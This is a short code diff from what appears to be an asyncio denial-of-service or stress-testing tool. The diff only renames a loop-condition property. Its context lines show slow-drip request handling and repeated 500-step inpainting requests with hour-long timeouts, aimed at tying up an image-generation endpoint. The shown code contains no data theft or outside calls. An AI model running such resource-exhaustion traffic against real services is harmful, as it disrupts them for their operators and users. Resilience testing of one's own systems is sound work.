@@ -36,7 +36,7 @@ class AttackTarget:
     seen: Counter[int]
 
     @property
-    def goes_on(self) -> bool:
+    def survives(self) -> bool:
         return time.monotonic() < self.until
 
     async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
@@ -61,18 +61,18 @@ class AttackTarget:
         self.seen[int(line.split()[1]) if line else 0] += 1
 
     async def repeat(self, request: bytes, every: float) -> None:
-        while self.goes_on:
+        while self.survives:
             await self.ask(request)
             await asyncio.sleep(every)
 
     async def trickle(self, beginning: bytes, piece: bytes, every: float) -> None:
         """Start a request and send the rest piece by piece, again and again."""
-        while self.goes_on:
+        while self.survives:
             with suppress(OSError):
                 reader, writer = await self.connect()
                 writer.write(beginning)
                 answer = asyncio.create_task(self.note(reader))
-                while self.goes_on and not answer.done():
+                while self.survives and not answer.done():
                     await asyncio.sleep(every)
                     if writer.is_closing():
                         break
@@ -209,7 +209,7 @@ async def requests_under_way(target: AttackTarget) -> None:
     request = post("/v1/inpaint?mask=center&steps=500", "X-Request-Timeout: 3600", body=small_image())
 
     async def one() -> None:
-        while target.goes_on:
+        while target.survives:
             with suppress(OSError, TimeoutError):
                 reader, writer = await target.connect()
                 writer.write(request)
